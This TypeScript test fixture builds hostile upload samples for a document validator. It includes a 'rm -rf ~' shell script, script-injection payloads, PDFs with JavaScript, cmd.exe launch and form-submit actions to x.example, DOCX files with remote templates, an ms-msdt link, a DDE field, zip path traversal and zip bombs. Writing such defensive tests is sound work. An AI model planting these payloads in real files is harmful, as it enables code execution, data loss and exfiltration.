import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import type { DocumentProblem } from '@/lib/files/documents/rules';
import { body, docx, objectStream, officeRelation, paragraph, pdf, rels, stream, types } from './files';

const script = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
/** Bytes one after the other, those of a text in Latin-1. */
export const bytes = (...parts: (string | Uint8Array)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
const box = (brand: string) => bytes('\0\0\0\u0018ftyp', brand, '\0\0\0\0mif1', new Uint8Array(200));
const ole = bytes('\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1', new Uint8Array(600));
/** A picture that does not pack well. */
export const picture = (format: 'png' | 'jpeg', side = 300) =>
  sharp({
    create: {
      width: side,
      height: side,
      channels: 3,
      background: '#000',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .toFormat(format)
    .toBuffer();
/** A DOCX with a relation to something elsewhere. */
export const external = (type: string, target: string, mode = 'External') =>
  docx({
    'word/_rels/document.xml.rels': rels(
      `<Relationship Id="r9" Type="${officeRelation}/${type}" Target="${target}" TargetMode="${mode}"/>`,
    ),
  });
const field = (...runs: string[]) =>
  docx({
    'word/document.xml': body(
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join('')}</w:p>`,
    ),
  });

/** The bytes of a zip with a field of its last central header, or of its end, changed. */
function forged(zip: Buffer, change: (copy: Buffer, central: number, end: number) => void): Buffer {
  const copy = Buffer.from(zip);
  change(copy, copy.lastIndexOf('PK\u0001\u0002'), copy.lastIndexOf('PK\u0005\u0006'));
  return copy;
}

const zeros = (megabytes: number) => new Uint8Array(megabytes * 1_000_000);

/** A file that is not taken, why, and what it is called. */
export type Hostile = [
  what: string,
  make: () => Buffer | Promise<Buffer>,
  problem: DocumentProblem,
  name?: string,
];

/** Files that try to be more than a document. */
export const hostile: Hostile[] = [
  ['nothing at all', () => bytes(), 'empty'],
  ['a megabyte more than is taken', () => Buffer.concat([pdf(), zeros(9)]), 'large'],
  ['a hundred megabytes', () => Buffer.from(zeros(100)), 'large'],
  ['a program of Windows', () => bytes('MZ\u0090\0', zeros(0.001)), 'type'],
  ['a program of Linux', () => bytes('\u007fELF\u0002\u0001', zeros(0.001)), 'type', 'cv.docx'],
  ['a script of a shell', () => bytes('#!/bin/sh\nrm -rf ~\n'), 'type'],
  [
    'an SVG named as a PNG',
    () => bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    'type',
    'a.png',
  ],
  ['a page named as a PDF', () => bytes('<!doctype html><script>alert(1)</script>'), 'type'],
  ['an AVIF', () => box('avif'), 'type', 'a.png'],
  ['a photo of an iPhone', () => box('heic'), 'heic', 'IMG_0001.HEIC'],
  ['one that calls itself JPEG', () => box('mif1'), 'heic', 'IMG_0001.jpg'],
  ['a document of Word 97', () => ole, 'word', 'cv.doc'],
  [
    'a DOCX with a password',
    () => bytes(ole, Buffer.from('EncryptedPackage', 'utf16le')),
    'encrypted',
    'cv.docx',
  ],

  ['a PDF with a zip behind it', () => bytes(pdf(), docx()), 'mixed'],
  [
    'a PDF in the comment of a zip',
    () => {
      const [front, zip, back] = [pdf(), docx(), bytes('\n%%EOF')];
      return bytes(
        front,
        forged(zip, (copy, _, end) => copy.writeUInt16LE(back.length, end + 20)),
        back,
      );
    },
    'mixed',
  ],
  ['a PDF that is a page too', () => bytes('%PDF-1.7\n<html><script>alert(1)</script>', pdf()), 'mixed'],
  ['a PDF with a page behind it', () => bytes(pdf(), '<html><script>alert(1)</script>'), 'mixed'],
  ['a PDF behind something else', () => bytes('GARBAGE\n', pdf()), 'mixed'],
  ['a PDF cut short', () => pdf().subarray(0, 500), 'damaged'],
  ['a PDF of noise', () => bytes('%PDF-1.7\n', 'x'.repeat(5000), '\n%%EOF\n'), 'damaged'],
  ['a PDF that runs a script when it is opened', () => pdf({ catalog: `/OpenAction ${script}` }), 'scripts'],
  [
    'a script in an object stream',
    () => pdf({ objects: [objectStream({ 9: '<< >>', 10: script })] }),
    'scripts',
  ],
  [
    'a script spelt by numbers',
    () => pdf({ page: '/AA << /O << /S /J#61vaScr#69pt /J#53 (1) >> >>' }),
    'scripts',
  ],
  [
    'a script behind an open string',
    () => pdf({ objects: ['(open', '<< /S /JavaScript /JS (1) >>'] }),
    'scripts',
  ],
  [
    'a script in pieces',
    () => pdf({ catalog: '/OpenAction << /S 5 0 R /J 6 0 R >>', objects: ['/JavaScript'] }),
    'scripts',
  ],
  [
    'a script inside the bytes of another stream',
    () => pdf({ objects: [stream('/X 1', `77 0 obj ${script} endobj`, '')] }),
    'scripts',
  ],
  [
    'an object stream that cannot be unpacked to its end',
    () =>
      pdf({
        objects: [
          stream(
            '/Type /ObjStm /N 1 /First 4',
            bytes(deflateSync(bytes('9 0 ', script)).subarray(0, 20), 'x'.repeat(40)),
            '',
          ).replace('/Length', '/Filter /FlateDecode /Length'),
        ],
      }),
    'damaged',
  ],
  [
    'an object stream packed in another way',
    () => pdf({ objects: [stream('/Type /ObjStm /N 1 /First 4', '392030203c3e', '/ASCIIHexDecode')] }),
    'damaged',
  ],
  [
    'an object stream packed under another key',
    () => pdf({ objects: [objectStream({ 9: script }).replace('/Filter', '/F')] }),
    'damaged',
  ],
  [
    'a template of another server',
    () => external('attachedTemplate', 'file:///\\\\x.example\\a.dotx'),
    'external',
    'cv.docx',
  ],
  ['a form with scripts (XFA)', () => pdf({ catalog: '/AcroForm << /XFA [(a) 5 0 R] >>' }), 'scripts'],
  [
    'a PDF that starts a program',
    () => pdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
    'launch',
  ],
  [
    'a PDF that sends itself away',
    () => pdf({ catalog: '/OpenAction << /S /SubmitForm /F (https://x.example) >>' }),
    'launch',
  ],
  [
    'a PDF with a file in it',
    () => pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>' }),
    'embedded',
  ],
  [
    'an encrypted PDF',
    () => pdf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (o) /U (u) /P -4 >> /ID [(a) (a)]' }),
    'encrypted',
  ],
  ['a PDF that unpacks to 200 MB', () => pdf({ contents: stream('', zeros(200)) }), 'bomb'],
  [
    'a PDF packed twice',
    () => pdf({ contents: stream('', deflateSync(deflateSync(zeros(100))), '[/FlateDecode /FlateDecode]') }),
    'bomb',
  ],
  [
    'a PDF that unpacks many times 100 MB',
    () => {
      const each = stream('', zeros(100));
      return pdf({ objects: [each, each, each, each, each, each] });
    },
    'bomb',
  ],

  ['macros', () => docx({ 'word/vbaProject.bin': 'x' }), 'macros', 'cv.docx'],
  [
    'a DOCM named as a DOCX',
    () => docx({ '[Content_Types].xml': types('application/vnd.ms-word.document.macroEnabled.main+xml') }),
    'macros',
    'cv.docx',
  ],
  [
    'an external template',
    () => external('attachedTemplate', 'https://x.example/evil.dotm'),
    'external',
    'cv.docx',
  ],
  [
    'an external template, spelt by numbers',
    () => external('attachedTemplate', 'https://x.example/a', '&#69;xternal'),
    'external',
    'cv.docx',
  ],
  ['an external picture', () => external('image', 'https://x.example/pixel.png'), 'external', 'cv.docx'],
  [
    'relations in UTF-16',
    () =>
      docx({
        'word/_rels/settings.xml.rels': Buffer.from(
          `\ufeff${rels(`<Relationship Id="a" Type="x/frame" Target="\\\\x.example\\a" TargetMode="External"/>`)}`,
          'utf16le',
        ),
      }),
    'external',
    'cv.docx',
  ],
  [
    'a link that starts a program',
    () => external('hyperlink', 'ms-msdt:/id PCWDiagnostic'),
    'external',
    'cv.docx',
  ],
  [
    'a field that starts a program',
    () => field('DDE', 'AUTO c:\\\\windows\\\\cmd.exe'),
    'external',
    'cv.docx',
  ],
  ['an OLE object', () => docx({ 'word/embeddings/oleObject1.bin': ole }), 'embedded', 'cv.docx'],
  [
    'a page taken in (altChunk)',
    () =>
      docx({
        'word/_rels/document.xml.rels': rels(
          `<Relationship Id="r9" Type="${officeRelation}/aFChunk" Target="a.xhtml"/>`,
        ),
      }),
    'embedded',
    'cv.docx',
  ],
  [
    'a program among the pictures',
    () => docx({ 'word/media/image1.png': bytes('MZ\u0090\0', zeros(0.001)) }),
    'embedded',
    'cv.docx',
  ],
  ['a zip bomb', () => docx({ 'word/media/a.xml': zeros(50) }), 'bomb', 'cv.docx'],
  [
    'a zip bomb that says it is small',
    () => forged(docx({ 'word/z.xml': zeros(5) }), (copy, central) => copy.writeUInt32LE(100, central + 24)),
    'bomb',
    'cv.docx',
  ],
  [
    'a zip of more entries than any document',
    () => docx(Object.fromEntries(Array.from({ length: 2100 }, (_, n) => [`word/${n}.xml`, '<a/>']))),
    'bomb',
    'cv.docx',
  ],
  [
    'entries that lie over one another',
    () =>
      forged(docx({ 'word/z.xml': '<a/>' }), (copy, central) => {
        copy.writeUInt32LE(0, central + 42);
      }),
    'mixed',
    'cv.docx',
  ],
  ['a name that leads out', () => docx({ '../../etc/cron.d/x': 'x' }), 'paths', 'cv.docx'],
  ['an absolute name', () => docx({ '/etc/passwd': 'x' }), 'paths', 'cv.docx'],
  ['a name with backslashes', () => docx({ 'word\\..\\..\\a.lnk': 'x' }), 'paths', 'cv.docx'],
  [
    'an entry with a password',
    () => forged(docx(), (copy, central) => copy.writeUInt16LE(1, central + 8)),
    'encrypted',
    'cv.docx',
  ],
  [
    'entities that unfold',
    () =>
      docx({
        'word/document.xml': `<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${body(paragraph('&b;'))}`,
      }),
    'damaged',
    'cv.docx',
  ],
  ['a DOCX cut short', () => docx().subarray(0, 600), 'damaged', 'cv.docx'],
  ['a DOCX with something behind it', () => bytes(docx(), '<script>alert(1)</script>'), 'mixed', 'cv.docx'],
  [
    'a workbook',
    () =>
      docx({
        '[Content_Types].xml': types(
          'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
        ),
      }),
    'type',
    'cv.docx',
  ],
  [
    'an archive of Java',
    () => forged(docx({ '[Content_Types].xml': '<a/>', 'META-INF/MANIFEST.MF': 'x' }), () => undefined),
    'type',
    'cv.docx',
  ],

  ['half a PNG', async () => (await picture('png')).subarray(0, 2000), 'damaged', 'a.png'],
  ['half a JPEG', async () => (await picture('jpeg')).subarray(0, 2000), 'damaged', 'a.jpg'],
  [
    'a picture of too many pixels',
    () =>
      sharp({ create: { width: 9000, height: 8000, channels: 3, background: '#fff' } })
        .png({ compressionLevel: 9 })
        .toBuffer(),
    'damaged',
    'a.png',
  ],
];
